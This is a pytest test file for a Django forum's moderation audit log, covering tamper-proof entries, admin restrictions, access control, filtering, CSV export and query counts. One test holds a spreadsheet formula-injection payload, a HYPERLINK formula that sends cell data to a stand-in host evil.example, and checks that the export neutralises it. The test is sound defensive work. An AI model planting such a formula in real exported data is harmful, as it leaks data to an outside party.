import csv
import io

import pytest
from django.core.exceptions import ValidationError

from moderation import services
from moderation.models import AuditLogEntry
from tests.factories import MemberFactory
from tests.moderation.factories import CommentFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def entries(moderator, rule):
    c = CommentFactory()
    services.content_hide(actor=moderator, target=c, rule=rule, reason="rude words")
    services.member_warn(
        actor=moderator, member=MemberFactory(username="warned"), rule=rule, reason="first warning"
    )
    return list(AuditLogEntry.objects.order_by("id"))


def test_audit_write_fills_every_column_in_the_callers_transaction(moderator, member, rule):
    entry = services.audit_log_write(
        actor=moderator,
        action="custom",
        target=member,
        member=member,
        rule=rule,
        reason="why",
        data={"a": 1},
    )
    assert entry.target == member and entry.target_repr == str(member)
    assert entry.rule == rule and entry.data == {"a": 1} and entry.created_at


def test_audit_rows_cannot_be_changed_or_deleted(entries):
    entry = entries[0]
    entry.reason = "tampered"
    with pytest.raises(ValidationError):
        entry.save()
    with pytest.raises(ValidationError):
        entry.delete()
    with pytest.raises(ValidationError):
        AuditLogEntry.objects.filter(pk=entry.pk).update(reason="x")
    with pytest.raises(ValidationError):
        AuditLogEntry.objects.all().delete()
    assert AuditLogEntry.objects.get(pk=entry.pk).reason == "rude words"


def test_the_admin_offers_no_way_to_add_change_or_delete(client, entries):
    admin = MemberFactory(is_staff=True, is_superuser=True)
    client.force_login(admin)
    entry = entries[0]
    changelist = client.get("/admin/moderation/auditlogentry/")
    assert changelist.status_code == 200
    html = changelist.content.decode()
    assert 'name="action"' not in html  # no bulk actions, so no "delete selected"
    assert "/admin/moderation/auditlogentry/add/" not in html
    detail = client.get(f"/admin/moderation/auditlogentry/{entry.pk}/change/")
    assert detail.status_code == 200
    detail_html = detail.content.decode()
    assert 'name="_save"' not in detail_html and "deletelink" not in detail_html
    response = client.post(
        f"/admin/moderation/auditlogentry/{entry.pk}/change/",
        {"action": "tampered", "reason": "tampered"},
    )
    assert response.status_code == 403
    assert client.get(f"/admin/moderation/auditlogentry/{entry.pk}/delete/").status_code == 403
    assert (
        client.post(
            f"/admin/moderation/auditlogentry/{entry.pk}/delete/", {"post": "yes"}
        ).status_code
        == 403
    )
    assert client.get("/admin/moderation/auditlogentry/add/").status_code == 403
    assert AuditLogEntry.objects.filter(pk=entry.pk, action=entry.action).exists()
    assert AuditLogEntry.objects.count() == len(entries)


@pytest.mark.parametrize(
    "who,status", [("anonymous", 302), ("member", 403), ("moderator", 200), ("staff", 200)]
)
def test_the_log_page_is_for_moderators_and_staff(client, who, status, member, moderator, staff):
    user = {"member": member, "moderator": moderator, "staff": staff}.get(who)
    if user:
        client.force_login(user)
    assert client.get("/moderation/log/").status_code == status
    assert client.get("/moderation/log/?format=csv").status_code == status


def test_the_log_filters_by_action_member_and_text(staff_client, entries):
    html = staff_client.get("/moderation/log/?action=warn").content.decode()
    assert "first warning" in html and "rude words" not in html
    html = staff_client.get("/moderation/log/?member=warned").content.decode()
    assert "first warning" in html and "rude words" not in html
    html = staff_client.get("/moderation/log/?q=rude").content.decode()
    assert "rude words" in html and "first warning" not in html
    assert staff_client.get("/moderation/log/?since=not-a-date").status_code == 200


def test_the_log_exports_csv(staff_client, entries):
    response = staff_client.get("/moderation/log/?format=csv&action=hide")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["id", "created_at", "actor", "action"]
    assert len(rows) == 2 and rows[1][3] == "hide" and rows[1][9] == "rude words"


def test_the_csv_never_hands_a_spreadsheet_a_formula(staff_client, moderator, rule):
    """Names and reasons come from members: a cell a spreadsheet would run is quoted."""
    services.member_warn(
        actor=moderator,
        member=MemberFactory(username="mallory"),
        rule=rule,
        reason='=HYPERLINK("https://evil.example/?d="&A1,"click")',
    )
    for reason in ("+1 from me", "-rf", "@SUM(1+1)"):
        services.member_warn(actor=moderator, member=MemberFactory(), rule=rule, reason=reason)
    response = staff_client.get("/moderation/log/?format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    reasons = sorted(row[9] for row in rows[1:])
    expected = [
        '\'=HYPERLINK("https://evil.example/?d="&A1,"click")',
        "'+1 from me",
        "'-rf",
        "'@SUM(1+1)",
    ]
    assert reasons == sorted(expected)
    assert rows[1][0].isdigit()  # numbers stay numbers


def test_the_log_page_query_count_is_constant(
    staff_client, moderator, rule, django_assert_num_queries
):
    def fill(n):
        for _ in range(n):
            services.member_warn(actor=moderator, member=MemberFactory(), rule=rule)

    fill(3)
    staff_client.get("/moderation/log/")
    staff_client.get("/moderation/log/")  # the member's row again: the day's first visit touched it
    # count, page of entries (actor, member, rule joined); the member's row and the session
    # are cached
    with django_assert_num_queries(2):
        staff_client.get("/moderation/log/")
    fill(30)
    with django_assert_num_queries(2):
        staff_client.get("/moderation/log/")


def test_blocked_words_page_is_staff_only_and_audited(client, member, staff):
    client.force_login(member)
    assert client.get("/moderation/blocked-words/").status_code == 403
    assert client.post("/moderation/blocked-words/", {"word": "x"}).status_code == 403
    client.force_login(staff)
    assert client.post("/moderation/blocked-words/", {"word": "Spammy Phrase"}).status_code == 302
    assert client.post("/moderation/blocked-words/", {"word": "spammy phrase"}).status_code == 400
    assert client.post("/moderation/blocked-words/", {"word": ""}).status_code == 400
    from moderation.models import BlockedWord

    word = BlockedWord.objects.get()
    assert client.post(f"/moderation/blocked-words/{word.pk}/delete/").status_code == 302
    assert list(AuditLogEntry.objects.order_by("id").values_list("action", flat=True)) == [
        "blocked_word_add",
        "blocked_word_remove",
    ]
